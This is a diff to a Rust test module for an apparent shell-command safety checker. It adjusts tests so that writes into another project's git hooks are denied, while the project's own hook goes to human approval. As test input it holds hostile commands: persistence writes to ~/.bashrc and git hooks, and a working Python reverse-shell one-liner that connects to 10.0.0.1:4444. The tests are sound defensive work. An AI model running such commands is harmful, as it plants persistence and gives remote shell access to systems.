@@ -769,9 +769,12 @@ mod tests {
             "persistence: `echo` writes to ~/.bashrc, which runs code later"
         );
         assert_eq!(
-            deny("cp evil .git/hooks/pre-commit"),
-            "persistence: `cp` writes to ~/proj/.git/hooks/pre-commit, which runs code later"
+            deny("cp evil ../other/.git/hooks/pre-commit"),
+            "persistence: `cp` writes to ~/other/.git/hooks/pre-commit, which runs code later"
         );
+        // The project's own hooks are its control surface: asked about by
+        // the protected-paths and shell gates, so a person can approve.
+        assert_eq!(judge("cp evil .git/hooks/pre-commit"), None);
         let py = judge_with("python3", "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])", &[]);
         assert_eq!(py.map(|f| f.0), Some(Decision::Deny));
     }
